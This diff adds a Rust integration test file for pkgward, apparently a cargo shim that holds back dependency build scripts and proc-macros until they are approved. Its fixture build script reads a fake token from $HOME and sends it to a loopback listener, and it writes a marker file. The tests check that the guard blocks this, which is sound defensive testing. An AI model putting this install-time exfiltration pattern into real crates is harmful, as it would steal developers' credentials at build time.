@@ -1,0 +1,411 @@
+//! cargo's install-time code end to end: the real cargo behind the pkgward
+//! shim, the loopback cargo registry, and fixture crates whose build script
+//! writes a marker outside `OUT_DIR` and sends a fake token read from
+//! `$HOME` to a loopback listener, or that are proc-macros. The shim splits
+//! a build into `cargo fetch`, a decision per crate with a build script or
+//! proc-macro, and the build with `--offline`: unapproved, nothing is built
+//! and nothing of the crate runs; approved, it builds and runs supervised.
+
+mod support;
+
+use std::process::Output;
+use std::sync::OnceLock;
+
+use support::guard::{evil, pkgward_bin, text, Guarded};
+use support::tools::real_cargo;
+use support::{rs_build_marker, shared, Crate};
+
+/// A build script that writes marker `evil-build-rs` outside `OUT_DIR`,
+/// and sends `$HOME/.fake-token` to the guard listener.
+fn evil_build_rs() -> String {
+    let port = evil().port();
+    format!(
+        "use std::io::Write;\n\
+         fn main() {{\n    \
+         if let Ok(d) = std::env::var(\"FIXTURE_MARKER_DIR\") {{\n        \
+         let _ = std::fs::write(std::path::Path::new(&d).join(\"evil-build-rs\"), \"ran\\n\");\n    \
+         }}\n    \
+         let home = std::env::var(\"HOME\").unwrap_or_default();\n    \
+         let tok = std::fs::read_to_string(format!(\"{{home}}/.fake-token\")).unwrap_or_default();\n    \
+         if let Ok(mut s) = std::net::TcpStream::connect((\"127.0.0.1\", {port})) {{\n        \
+         let _ = write!(s, \"GET /cargo?t={{}} HTTP/1.0\\r\\n\\r\\n\", tok.trim());\n    \
+         }}\n}}\n"
+    )
+}
+
+/// A proc-macro whose expansion-time code writes marker `evil-macro`.
+const EVIL_MACRO: &str = "extern crate proc_macro;\n\
+     use proc_macro::TokenStream;\n\
+     #[proc_macro]\n\
+     pub fn answer(_: TokenStream) -> TokenStream {\n    \
+     if let Ok(d) = std::env::var(\"FIXTURE_MARKER_DIR\") {\n        \
+     let _ = std::fs::write(std::path::Path::new(&d).join(\"evil-macro\"), \"ran\\n\");\n    \
+     }\n    \
+     \"42\".parse().unwrap()\n}\n";
+
+fn fixtures() {
+    static DONE: OnceLock<()> = OnceLock::new();
+    DONE.get_or_init(|| {
+        let r = shared();
+        r.publish_crate(&Crate::new("pw-cs-evil", "1.0.0").build_script(&evil_build_rs()));
+        // A legitimate build script: sets a cfg the library reports.
+        r.publish_crate(
+            &Crate::new("pw-cs-good", "1.2.0")
+                .build_script(
+                    "fn main() {\n    \
+                     println!(\"cargo:rustc-check-cfg=cfg(fixture_build_ran)\");\n    \
+                     println!(\"cargo:rustc-cfg=fixture_build_ran\");\n}\n",
+                )
+                .lib("pub fn built() -> bool {\n    cfg!(fixture_build_ran)\n}\n"),
+        );
+        r.publish_crate(
+            &Crate::new("pw-cs-macro", "0.3.1")
+                .proc_macro()
+                .lib(EVIL_MACRO),
+        );
+        r.publish_crate(&Crate::new("pw-cs-plain", "1.0.0").dep("pw-cs-evil", "1"));
+        // A tool installed with `cargo install`.
+        r.publish_crate(
+            &Crate::new("pw-cs-tool", "0.1.0")
+                .dep("pw-cs-good", "1")
+                .file(
+                    "src/main.rs",
+                    "fn main() {\n    println!(\"tool built={}\", pw_cs_good::built());\n}\n",
+                ),
+        );
+        r.publish_crate(
+            &Crate::new("pw-cs-evil-tool", "0.1.0")
+                .dep("pw-cs-evil", "1")
+                .file("src/main.rs", "fn main() {}\n"),
+        );
+    });
+}
+
+fn policy(mode: &str, allow: &[&str]) -> String {
+    let url = shared()
+        .cargo_index_url()
+        .trim_start_matches("sparse+")
+        .to_string();
+    let allow: Vec<String> = allow.iter().map(|a| format!("{a:?}")).collect();
+    format!(
+        "mode = \"{mode}\"\n[registries]\ncargo = [\"{url}\"]\n[scripts]\nallow = [{}]\n",
+        allow.join(", ")
+    )
+}
+
+fn guarded(policy: &str) -> Guarded {
+    fixtures();
+    let g = Guarded::new(policy);
+    std::os::unix::fs::symlink(pkgward_bin(), g.shims.join("cargo")).unwrap();
+    let real = g.real.join("cargo");
+    std::fs::write(
+        &real,
+        format!("#!/bin/sh\nexec '{}' \"$@\"\n", real_cargo().display()),
+    )
+    .unwrap();
+    std::fs::set_permissions(&real, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    g.sb.cargo_config(&shared().cargo.config_replacing_crates_io());
+    std::fs::write(g.sb.home.join(".fake-token"), format!("{}\n", token(&g))).unwrap();
+    g
+}
+
+/// The fake token of this sandbox (unique: the tests run in parallel).
+fn token(g: &Guarded) -> String {
+    let name = g.sb.root().file_name().unwrap().to_string_lossy();
+    format!(
+        "tok-cargo-{}",
+        name.replace(|c: char| !c.is_ascii_alphanumeric(), "")
+    )
+}
+
+fn cargo(g: &Guarded, args: &[&str]) -> Output {
+    g.sb.command("cargo", &[g.sb.cargo_env(), g.pkgward_env()])
+        .args(args)
+        .output()
+        .unwrap()
+}
+
+/// A binary project depending on `deps` (TOML lines), `main` as its main.rs.
+fn project(g: &Guarded, deps: &str, main: &str) {
+    g.sb.write(
+        "Cargo.toml",
+        format!(
+            "[package]\nname = \"cs-app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n{deps}"
+        ),
+    );
+    g.sb.write("src/main.rs", main);
+}
+
+fn scripts(g: &Guarded) -> Vec<serde_json::Value> {
+    g.audit()
+        .into_iter()
+        .filter(|r| r["kind"] == "script")
+        .collect()
+}
+
+/// Whether this sandbox's token reached the guard listener.
+fn token_sent(g: &Guarded) -> bool {
+    let tok = token(g);
+    evil().connections().iter().any(|c| c.text().contains(&tok))
+}
+
+#[test]
+fn unapproved_build_script_denies_the_build_before_it_runs() {
+    let g = guarded(&policy("enforce", &[]));
+    project(&g, "pw-cs-plain = \"1\"\n", "fn main() {}\n");
+    let out = cargo(&g, &["build"]);
+    let err = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(77), "{err}");
+    assert!(
+        err.contains("pkgward approve cargo:pw-cs-evil@=1.0.0"),
+        "{err}"
+    );
+    assert!(
+        g.sb.marker("evil-build-rs").is_none(),
+        "the build script ran"
+    );
+    assert!(!token_sent(&g), "the token reached the listener");
+    assert!(
+        !g.sb.root().join("cargo-target/debug/cs-app").exists(),
+        "something was built"
+    );
+    let recs = scripts(&g);
+    let evil_rec = recs
+        .iter()
+        .find(|r| r["package"] == "pw-cs-evil")
+        .expect("a script record for pw-cs-evil");
+    assert_eq!(evil_rec["decision"], "deny");
+    assert_eq!(evil_rec["ran"], false);
+    assert_eq!(evil_rec["ecosystem"], "cargo");
+    assert_eq!(evil_rec["version"], "1.0.0");
+    assert_eq!(evil_rec["script"], "build-script");
+    let exit = g
+        .audit()
+        .into_iter()
+        .rev()
+        .find(|r| r["kind"] == "exit")
+        .unwrap();
+    assert_eq!(exit["exit_code"], 77);
+    // The crate was fetched (the fetch step ran), only the build did not.
+    let inv = g.last_invocation();
+    assert_eq!(inv["decision"]["action"], "allow", "{inv}");
+}
+
+#[test]
+fn unapproved_proc_macro_denies_the_build() {
+    let g = guarded(&policy("enforce", &[]));
+    project(
+        &g,
+        "pw-cs-macro = \"0.3\"\n",
+        "fn main() {\n    println!(\"{}\", pw_cs_macro::answer!());\n}\n",
+    );
+    let out = cargo(&g, &["check"]);
+    let err = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(77), "{err}");
+    assert!(
+        err.contains("pkgward approve cargo:pw-cs-macro@=0.3.1"),
+        "{err}"
+    );
+    assert!(g.sb.marker("evil-macro").is_none());
+    let recs = scripts(&g);
+    assert!(
+        recs.iter().any(|r| r["package"] == "pw-cs-macro"
+            && r["script"] == "proc-macro"
+            && r["decision"] == "deny"),
+        "{recs:#?}"
+    );
+}
+
+#[test]
+fn approved_build_script_and_proc_macro_run_and_are_recorded() {
+    let g = guarded(&policy(
+        "enforce",
+        &["cargo:pw-cs-good@^1.2", "cargo:pw_cs_macro@=0.3.1"],
+    ));
+    project(
+        &g,
+        "pw-cs-good = \"1\"\npw-cs-macro = \"0.3\"\n",
+        "fn main() {\n    println!(\"built={} answer={}\", pw_cs_good::built(), pw_cs_macro::answer!());\n}\n",
+    );
+    let out = cargo(&g, &["run", "-q", "--", "ignored-arg"]);
+    let err = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{err}");
+    assert_eq!(text(&out.stdout), "built=true answer=42\n", "{err}");
+    let recs = scripts(&g);
+    for (pkg, script) in [
+        ("pw-cs-good", "build-script"),
+        ("pw-cs-macro", "proc-macro"),
+    ] {
+        let r = recs
+            .iter()
+            .find(|r| r["package"] == pkg && r["script"] == script)
+            .unwrap_or_else(|| panic!("no record for {pkg}: {recs:#?}"));
+        assert_eq!(r["decision"], "approved", "{r}");
+        assert_eq!(r["ran"], true, "{r}");
+        assert_eq!(r["exit_code"], 0, "{r}");
+        assert!(
+            r["approved_by"].as_str().unwrap().starts_with("cargo:"),
+            "{r}"
+        );
+        let runner: Vec<String> = serde_json::from_value(r["runner"].clone()).unwrap();
+        assert!(runner.contains(&"--offline".to_string()), "{runner:?}");
+        assert!(runner.contains(&"build".to_string()), "{runner:?}");
+    }
+    // A second, up-to-date build keeps working (and the user's exit code).
+    let out = cargo(&g, &["build", "-q"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    // The program's own failure is the user's exit code.
+    g.sb.write(
+        "src/main.rs",
+        "fn main() {\n    std::process::exit(3);\n}\n",
+    );
+    let out = cargo(&g, &["run", "-q"]);
+    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
+}
+
+#[test]
+fn the_projects_own_build_script_runs_as_project_code() {
+    let g = guarded(&policy("enforce", &[]));
+    project(&g, "", "fn main() {}\n");
+    g.sb.write("build.rs", rs_build_marker("own-build-rs"));
+    let out = cargo(&g, &["build"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(g.sb.marker("own-build-rs").is_some());
+    let recs = scripts(&g);
+    let r = recs.iter().find(|r| r["package"] == "cs-app").unwrap();
+    assert_eq!(r["decision"], "project");
+    assert_eq!(r["path"], ".");
+    assert_eq!(r["ran"], true);
+}
+
+#[test]
+fn dev_and_other_platform_dependencies_count_only_where_they_build() {
+    let g = guarded(&policy("enforce", &[]));
+    g.sb.write(
+        "Cargo.toml",
+        "[package]\nname = \"cs-app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
+         [dev-dependencies]\npw-cs-evil = \"1\"\n\n\
+         [target.'cfg(windows)'.dependencies]\npw-cs-macro = \"0.3\"\n",
+    );
+    g.sb.write("src/lib.rs", "pub fn f() {}\n");
+    // `cargo build` builds neither: it runs.
+    let out = cargo(&g, &["build"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    // `cargo test` builds the dev-dependency: denied before it runs.
+    let out = cargo(&g, &["test"]);
+    let err = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(77), "{err}");
+    assert!(err.contains("cargo:pw-cs-evil@=1.0.0"), "{err}");
+    assert!(!err.contains("pw-cs-macro"), "{err}");
+    assert!(g.sb.marker("evil-build-rs").is_none());
+    assert!(!token_sent(&g));
+    // So does `cargo build --all-targets`.
+    let out = cargo(&g, &["build", "--all-targets"]);
+    assert_eq!(out.status.code(), Some(77), "{}", text(&out.stderr));
+}
+
+#[test]
+fn audit_mode_builds_and_records_would_deny() {
+    let g = guarded(&policy("audit", &[]));
+    project(
+        &g,
+        "pw-cs-good = \"1\"\n",
+        "fn main() {\n    println!(\"{}\", pw_cs_good::built());\n}\n",
+    );
+    let out = cargo(&g, &["run", "-q"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert_eq!(text(&out.stdout), "true\n");
+    let recs = scripts(&g);
+    let r = recs.iter().find(|r| r["package"] == "pw-cs-good").unwrap();
+    assert_eq!(r["decision"], "would-deny");
+    assert_eq!(r["ran"], true);
+}
+
+#[test]
+fn audit_mode_runs_the_evil_build_script() {
+    // The control for the denial tests: without enforcement the fixture's
+    // effects do happen.
+    let g = guarded(&policy("audit", &[]));
+    project(&g, "pw-cs-plain = \"1\"\n", "fn main() {}\n");
+    let out = cargo(&g, &["build"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(g.sb.marker("evil-build-rs").is_some());
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    while !token_sent(&g) && std::time::Instant::now() < deadline {
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    assert!(token_sent(&g), "the fixture's token never arrived");
+    let recs = scripts(&g);
+    let r = recs.iter().find(|r| r["package"] == "pw-cs-evil").unwrap();
+    assert_eq!(r["decision"], "would-deny");
+}
+
+#[test]
+fn cargo_install_from_the_registry_is_checked_before_it_builds() {
+    // Unapproved: denied, nothing installed, nothing ran.
+    let g = guarded(&policy("enforce", &[]));
+    let out = cargo(&g, &["install", "pw-cs-evil-tool"]);
+    let err = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(77), "{err}");
+    assert!(
+        err.contains("pkgward approve cargo:pw-cs-evil@=1.0.0"),
+        "{err}"
+    );
+    assert!(g.sb.marker("evil-build-rs").is_none());
+    assert!(!token_sent(&g));
+    assert!(!g.sb.cargo_home().join("bin/pw-cs-evil-tool").exists());
+    // Approved: installed offline after the fetch, and it works.
+    let g = guarded(&policy("enforce", &["cargo:pw-cs-good"]));
+    let out = cargo(&g, &["install", "pw-cs-tool@0.1.0"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    let bin = g.sb.cargo_home().join("bin/pw-cs-tool");
+    let run = std::process::Command::new(&bin).output().unwrap();
+    assert_eq!(text(&run.stdout), "tool built=true\n");
+    let recs = scripts(&g);
+    assert!(
+        recs.iter().any(|r| r["package"] == "pw-cs-good"
+            && r["decision"] == "approved"
+            && r["ran"] == true),
+        "{recs:#?}"
+    );
+}
+
+#[test]
+fn the_graph_cache_sees_new_dependencies_and_members() {
+    let g = guarded(&policy("enforce", &[]));
+    g.sb.write(
+        "Cargo.toml",
+        "[workspace]\nmembers = [\"crates/*\"]\nresolver = \"2\"\n",
+    );
+    let member = |name: &str, deps: &str| {
+        g.sb.write(
+            &format!("crates/{name}/Cargo.toml"),
+            format!(
+                "[package]\nname = \"{name}\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n{deps}"
+            ),
+        );
+        g.sb.write(&format!("crates/{name}/src/lib.rs"), "pub fn f() {}\n");
+    };
+    member("cs-a", "");
+    let out = cargo(&g, &["build"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    // The same build again: answered from the cache.
+    let out = cargo(&g, &["build"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    let cache = g.state.join("scripts/cargo");
+    assert_eq!(std::fs::read_dir(&cache).unwrap().count(), 1);
+    // A dependency added to a member's manifest.
+    member("cs-a", "pw-cs-plain = \"1\"\n");
+    let out = cargo(&g, &["build"]);
+    assert_eq!(out.status.code(), Some(77), "{}", text(&out.stderr));
+    member("cs-a", "");
+    let out = cargo(&g, &["build"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    // A new member found by the workspace's glob.
+    member("cs-b", "pw-cs-plain = \"1\"\n");
+    let out = cargo(&g, &["build"]);
+    let err = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(77), "{err}");
+    assert!(err.contains("cargo:pw-cs-evil@=1.0.0"), "{err}");
+    assert!(g.sb.marker("evil-build-rs").is_none());
+}
